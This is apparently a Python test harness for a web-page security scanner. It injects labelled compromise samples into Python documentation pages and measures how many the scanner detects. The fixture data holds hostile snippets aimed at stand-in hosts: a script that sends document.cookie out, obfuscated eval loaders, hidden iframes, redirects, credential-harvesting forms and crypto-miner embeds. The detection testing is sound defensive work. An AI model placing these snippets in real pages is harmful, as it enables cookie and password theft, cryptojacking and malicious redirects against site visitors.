#!/usr/bin/env python3
"""The labelled detection corpus: real documentation pages (python3.11-doc),
the same pages with injected content of each family the modern pack knows,
and with benign modern additions (analytics, CDN libraries with integrity,
embeds, newsletter forms). Every page is checked with `--rule-set modern`:
a compromised page must have a finding of severity medium or above, a clean
one none. Prints the two shares for the modern pack and for the classic
twenty, and fails below 95% / 98%. Pages that need an https address or
response headers are served by a loopback https server.

usage: detection_corpus.py VETTRIX [--docs DIR]
"""
import argparse
import glob
import http.server
import json
import os
import ssl
import subprocess
import sys
import tempfile
import threading

DOCS = "/usr/share/doc/python3.11/html"
LEVELS = ["info", "low", "medium", "high", "critical"]

# What an attacker adds to a page, by family; each a list of variants, each
# (where, snippet): "head" after <head>, "body" before </body>, "end" after
# </html>, "start" before everything.
COMPROMISES = {
    "hidden-frame": [
        ("body", '<iframe src="https://traffic-in.evil.test/in.php?id=7" width="0" height="0" '
                 'frameborder="0"></iframe>'),
        ("body", '<iframe src="http://91.200.12.4/t/" style="display:none"></iframe>'),
        ("body", '<iframe src="https://ads.evil.test/x" width="1" height="1"></iframe>'),
        ("body", '<iframe src="//evil.test/" style="visibility: hidden;position:absolute">'
                 '</iframe>'),
    ],
    "script-without-integrity": [
        ("head", '<script src="https://cdn-jquery-stats.evil.test/jquery.min.js"></script>'),
        ("body", '<script async src="https://evil.test/wp-includes/js/analytics.js"></script>'),
    ],
    "script-outside-html": [
        ("end", "<script>var _q=document.cookie;new Image().src='//x.test/?'+_q;</script>"),
        ("start", "<script>console.log(1)</script>\n"),
    ],
    "decode-and-run": [
        ("body", "<script>eval(atob('ZG9jdW1lbnQubG9jYXRpb249Imh0dHBzOi8vZXZpbC50ZXN0Ig=='))"
                 "</script>"),
        ("body", "<script>setTimeout(unescape('%64%6f%63%75%6d%65%6e%74'), 10)</script>"),
        ("body", "<script>var s=String.fromCharCode(100,111,99,117,109,101,110,116,46,119,114,"
                 "105,116,101,40,39,60,115,99,114,105,112,116,39,41);eval(s)</script>"),
        ("body", "<script>eval(function(p,a,c,k,e,d){e=function(c){return c};return p}"
                 "('0 1',2,2,'var|x'.split('|'),0,{}))</script>"),
        ("body", "<script>var _0x3f2a=['\\x63\\x6f\\x6f\\x6b\\x69\\x65'];</script>"),
        ("body", "<script>var p='" + "\\x41" * 60 + "';</script>"),
    ],
    "document-write": [
        ("body", "<script>document.write('<script src=\"//evil.test/a.js\"></scr'+'ipt>')"
                 "</script>"),
        ("body", "<script>document.write(unescape('%3Ciframe%20src%3D%22//evil.test%22%3E'))"
                 "</script>"),
        ("body", "<script>document.write('<iframe src=https://evil.test width=0></iframe>')"
                 "</script>"),
    ],
    "redirect": [
        ("head", '<meta http-equiv="refresh" content="0;url=https://pharma-shop.evil.test/">'),
        ("head", "<meta http-equiv=Refresh content='3; URL=http://evil.test/go'>"),
        ("body", '<script>window.location.href="https://evil.test/?ref=docs";</script>'),
        ("body", "<script>if(document.referrer.indexOf('google')>0)"
                 "location.replace('//evil.test/lp')</script>"),
    ],
    "password-form-elsewhere": [
        ("body", '<form action="https://collect.evil.test/p.php" method="post">'
                 '<input name="user"><input type="password" name="pass"><button>Sign in'
                 '</button></form>'),
        ("body", '<div class="login"><form method=POST action=//evil.test/gate>'
                 '<p><label>Password <input TYPE=Password name=pw></label></p></form></div>'),
    ],
    "miner": [
        ("body", '<script src="https://coinhive.com/lib/coinhive.min.js"></script><script>'
                 'var miner = new CoinHive.Anonymous("SITE_KEY"); miner.start();</script>'),
        ("body", '<script src="/wp-content/w.js"></script><script>var _client = new '
                 'Client.Anonymous("k", {throttle: 0, c: "w"}); /* CoinImp */</script>'),
        ("body", "<script src='//cryptoloot.pro/lib/crlt.js'></script>"),
    ],
    "javascript-url": [
        ("body", "<a href=\"javascript:window.open('https://evil.test/pop')\">Download</a>"),
        ("body", "<a href=\"javascript:document.write('<script src=//evil.test/x.js>')\">x</a>"),
        ("body", "<a href=\"javascript:location='https://evil.test'\">Continue</a>"),
    ],
    "hidden-links": [
        ("body", '<div style="display:none">' + "".join(
            f'<a href="https://pharma{i}.evil.test/">cheap pills {i}</a> ' for i in range(8)) +
         "</div>"),
        ("body", '<p style="position:absolute;left:-9999px">' + "".join(
            f'<a href="http://casino.evil.test/{i}">casino {i}</a>, ' for i in range(6)) +
         "</p>"),
    ],
}

# What an honest site adds to its pages today.
BENIGN = [
    ("head", '<script async src="https://www.googletagmanager.com/gtag/js?id=G-ABC123"></script>'
             "<script>window.dataLayer = window.dataLayer || [];function gtag(){dataLayer.push("
             "arguments);}gtag('js', new Date());gtag('config', 'G-ABC123');</script>"),
    ("body", '<noscript><iframe src="https://www.googletagmanager.com/ns.html?id=GTM-XXXX" '
             'height="0" width="0" style="display:none;visibility:hidden"></iframe></noscript>'),
    ("head", '<script src="https://code.jquery.com/jquery-3.7.1.min.js" integrity="sha256-/JqT3'
             'SQfawRcv/BIHPThkBvs0OEvtFFmqPF/lYI/Cxo=" crossorigin="anonymous"></script>'
             '<link href="https://cdn.jsdelivr.net/npm/bootstrap@5.3.2/dist/css/bootstrap.min.css"'
             ' rel="stylesheet" integrity="sha384-T3c6CoIi6uLrA9TneNEoa7RxnatzjcDSCmG1MXxSR1GAsXEV'
             '/Dwwykc2MPK8M2HN" crossorigin="anonymous">'
             '<script src="https://cdn.jsdelivr.net/npm/bootstrap@5.3.2/dist/js/bootstrap.bundle.'
             'min.js" integrity="sha384-C6RzsynM9kWDrMNeT87bh95OGNyZPhcTNXj1NW7RuBCsyN/o0jlpcV8Q'
             'yq46cDfL" crossorigin="anonymous"></script>'),
    ("head", '<link rel="preconnect" href="https://fonts.gstatic.com" crossorigin><link href='
             '"https://fonts.googleapis.com/css2?family=Inter:wght@400;700&display=swap" '
             'rel="stylesheet">'),
    ("body", '<iframe width="560" height="315" src="https://www.youtube-nocookie.com/embed/abc" '
             'title="Video" frameborder="0" allow="accelerometer; autoplay; encrypted-media" '
             'allowfullscreen></iframe>'),
    ("body", '<iframe src="https://player.vimeo.com/video/76979871" width="640" height="360" '
             'allow="autoplay; fullscreen"></iframe>'),
    ("body", '<form action="https://example.us1.list-manage.com/subscribe/post?u=1&amp;id=2" '
             'method="post"><input type="email" name="EMAIL" placeholder="you@example.com">'
             '<button>Subscribe</button></form>'),
    ("body", '<form action="/login" method="post"><input name="user"><input type="password" '
             'name="password"><button>Sign in</button></form>'),
    ("body", '<nav><a href="javascript:void(0)" class="toggle">Menu</a> <a href="javascript:;">'
             'Search</a></nav>'),
    ("head", '<script defer data-domain="docs.example.org" src="https://plausible.io/js/script.js">'
             "</script>"),
    ("body", "<script defer src='https://static.cloudflareinsights.com/beacon.min.js' "
             "data-cf-beacon='{\"token\": \"abc\"}'></script>"),
    ("body", '<div class="menu" style="display:none"><a href="/about">About</a> <a href='
             '"https://github.com/example/project">Source</a></div>'),
]


def inject(page, where, snippet):
    lower = page.lower()
    if where == "start":
        return snippet + page
    if where == "end":
        return page.rstrip() + "\n" + snippet + "\n"
    if where == "head":
        at = lower.find("<head>")
        at = at + 6 if at >= 0 else 0
        return page[:at] + snippet + page[at:]
    at = lower.rfind("</body>")
    at = at if at >= 0 else len(page)
    return page[:at] + snippet + page[at:]


def worst(findings):
    return max((LEVELS.index(f["severity"]) for f in findings), default=-1)


def check(vettrix, rule_set, addresses, extra=()):
    """The findings of each address."""
    out = {}
    for i in range(0, len(addresses), 200):
        chunk = addresses[i:i + 200]
        r = subprocess.run([vettrix, "check", "--json", "--rule-set", rule_set, *extra, *chunk],
                           capture_output=True, text=True)
        if r.returncode not in (0, 1):
            sys.exit(f"vettrix failed ({r.returncode}): {r.stderr}")
        for line in r.stdout.splitlines():
            o = json.loads(line)
            if not o["ok"]:
                sys.exit(f"{o['address']}: not checked: {o['error']}")
            out[o["address"]] = o["findings"]
    missing = set(addresses) - set(out)
    if missing:
        sys.exit(f"no report for {sorted(missing)[:3]}")
    return out


class Handler(http.server.BaseHTTPRequestHandler):
    pages = {}  # path: (headers, body)

    def do_GET(self):
        headers, body = self.pages.get(self.path, ([], b"not here"))
        self.send_response(200 if self.path in self.pages else 404)
        self.send_header("Content-Type", "text/html; charset=utf-8")
        for name, value in headers:
            self.send_header(name, value)
        self.send_header("Content-Length", str(len(body)))
        self.end_headers()
        self.wfile.write(body)

    def log_message(self, *args):
        pass


GOOD_HEADERS = [
    ("Content-Security-Policy", "default-src 'self'; frame-ancestors 'none'"),
    ("Strict-Transport-Security", "max-age=63072000"),
    ("X-Content-Type-Options", "nosniff"),
    ("Referrer-Policy", "strict-origin-when-cross-origin"),
    ("Set-Cookie", "sid=1; Secure; HttpOnly; SameSite=Lax"),
]


def main():
    parser = argparse.ArgumentParser(description=__doc__.splitlines()[0])
    parser.add_argument("vettrix")
    parser.add_argument("--docs", default=DOCS)
    args = parser.parse_args()
    if not os.access(args.vettrix, os.X_OK):
        sys.exit(f"missing {args.vettrix}")
    sources = sorted(glob.glob(os.path.join(args.docs, "**", "*.html"), recursive=True))
    if len(sources) < 100:
        sys.exit(f"{args.docs} holds {len(sources)} pages: install python3.11-doc "
                 "(scripts/deps.sh)")
    # Every fourth page: some 130 of every kind of documentation page.
    sources = sources[::4]
    pages = []
    for path in sources:
        with open(path, encoding="utf-8", errors="replace") as f:
            pages.append(f.read())

    labelled = []  # (name, text, compromised)
    for i, text in enumerate(pages):
        labelled.append((f"clean-{i}.html", text, False))
    for i, text in enumerate(pages):
        where, snippet = BENIGN[i % len(BENIGN)]
        labelled.append((f"benign-{i}.html", inject(text, where, snippet), False))
    every = pages[0]
    for where, snippet in BENIGN:
        every = inject(every, where, snippet)
    labelled.append(("benign-all.html", every, False))
    k = 0
    for family, variants in COMPROMISES.items():
        for v, (where, snippet) in enumerate(variants):
            for copy in range(3):  # each variant in three different pages
                text = pages[(k * 7 + copy * 31) % len(pages)]
                labelled.append((f"bad-{family}-{v}-{copy}.html", inject(text, where, snippet),
                                 True))
                k += 1

    with tempfile.TemporaryDirectory(prefix="vettrix-corpus-") as tmp:
        files = []
        for name, text, _ in labelled:
            path = os.path.join(tmp, name)
            with open(path, "w", encoding="utf-8") as f:
                f.write(text)
            files.append(path)
        label = {os.path.join(tmp, n): bad for n, _, bad in labelled}

        # The https families and the header rules: a loopback server.
        cert, key = os.path.join(tmp, "cert.pem"), os.path.join(tmp, "key.pem")
        made = subprocess.run(
            ["openssl", "req", "-x509", "-newkey", "ec", "-pkeyopt",
             "ec_paramgen_curve:prime256v1", "-nodes", "-days", "2", "-subj", "/CN=127.0.0.1",
             "-addext", "subjectAltName=IP:127.0.0.1", "-keyout", key, "-out", cert],
            capture_output=True)
        if made.returncode != 0:
            sys.exit("the openssl program could not make a certificate: install openssl")
        base = pages[1]
        served = {
            "/mixed-script": inject(base, "head", '<script src="http://cdn.example.org/a.js" '
                                    'integrity="sha384-x"></script>'),
            "/mixed-frame": inject(base, "body", '<iframe src="http://127.0.0.1/w" width=300>'
                                   "</iframe>"),
            "/password-plain": inject(base, "body", '<form action="http://127.0.0.1/login" '
                                      'method=post><input type=password name=p></form>'),
            "/clean-good-headers": base,
            "/clean-bare": base,
            "/clean-csp-without-frame-ancestors": base,
        }
        bad_served = {"/mixed-script", "/mixed-frame", "/password-plain"}
        Handler.pages = {p: (GOOD_HEADERS, t.encode()) for p, t in served.items()}
        Handler.pages["/clean-bare"] = ([("Set-Cookie", "a=1; Secure; HttpOnly; SameSite=Lax"),
                                         ("Set-Cookie", "b=2; Path=/")], base.encode())
        Handler.pages["/clean-csp-without-frame-ancestors"] = (
            [("Content-Security-Policy", "default-src 'self'")] + GOOD_HEADERS[1:],
            base.encode())
        server = http.server.ThreadingHTTPServer(("127.0.0.1", 0), Handler)
        context = ssl.SSLContext(ssl.PROTOCOL_TLS_SERVER)
        context.load_cert_chain(cert, key)
        server.socket = context.wrap_socket(server.socket, server_side=True)
        threading.Thread(target=server.serve_forever, daemon=True).start()
        origin = f"https://127.0.0.1:{server.server_address[1]}"
        urls = [origin + p for p in served]
        for p in served:
            label[origin + p] = p in bad_served

        status = 0
        for rule_set in ("modern", "classic"):
            found = check(args.vettrix, rule_set, files)
            found.update(check(args.vettrix, rule_set, urls, ["--cacert", cert]))
            bad = [a for a in label if label[a]]
            good = [a for a in label if not label[a]]
            caught = [a for a in bad if worst(found[a]) >= LEVELS.index("medium")]
            quiet = [a for a in good if worst(found[a]) < LEVELS.index("medium")]
            any_bad = [a for a in bad if found[a]]
            any_good = [a for a in good if not found[a]]
            print(f"{rule_set}: compromised with a finding >= medium: {len(caught)}/{len(bad)} "
                  f"({100 * len(caught) / len(bad):.1f}%); clean with none: "
                  f"{len(quiet)}/{len(good)} ({100 * len(quiet) / len(good):.1f}%); "
                  f"with any finding at all: {100 * len(any_bad) / len(bad):.1f}% / "
                  f"{100 * len(any_good) / len(good):.1f}% without")
            if rule_set == "modern":
                for a in sorted(set(bad) - set(caught)):
                    print(f"  missed: {os.path.basename(a)}")
                for a in sorted(set(good) - set(quiet)):
                    print(f"  false alarm: {os.path.basename(a)}: "
                          f"{[f['id'] for f in found[a] if worst([f]) >= 2]}")
                if len(caught) < 0.95 * len(bad) or len(quiet) < 0.98 * len(good):
                    print("FAIL: below 95% of compromised pages caught or 98% of clean ones "
                          "quiet")
                    status = 1
                # Header rules: each cookie on its own; no place in the text.
                ids = {u[len(origin):]: {f["id"] for f in found[u]} for u in urls}
                header_ids = {"no-content-security-policy", "no-strict-transport",
                              "no-content-type-options", "no-referrer-policy",
                              "no-frame-protection", "no-frame-ancestors", "cookie-not-secure",
                              "cookie-not-httponly", "cookie-no-samesite"}
                want = {
                    "/clean-good-headers": set(),
                    "/clean-bare": header_ids - {"no-frame-ancestors"},
                    "/clean-csp-without-frame-ancestors": {"no-frame-ancestors"},
                }
                for path, expected in want.items():
                    got = ids[path] & header_ids
                    if got != expected:
                        print(f"FAIL: {path}: header findings {sorted(got)}, "
                              f"want {sorted(expected)}")
                        status = 1
                for u in urls:
                    for f in found[u]:
                        if f["id"] in header_ids and (f["line"], f["column"]) != (0, 0):
                            print(f"FAIL: {f['id']} placed at {f['line']}:{f['column']}")
                            status = 1
                for path in bad_served:
                    if not ids[path] & {"mixed-content", "password-form-plain"}:
                        print(f"FAIL: {path}: {sorted(ids[path])}")
                        status = 1
        server.shutdown()
    return status


if __name__ == "__main__":
    sys.exit(main())
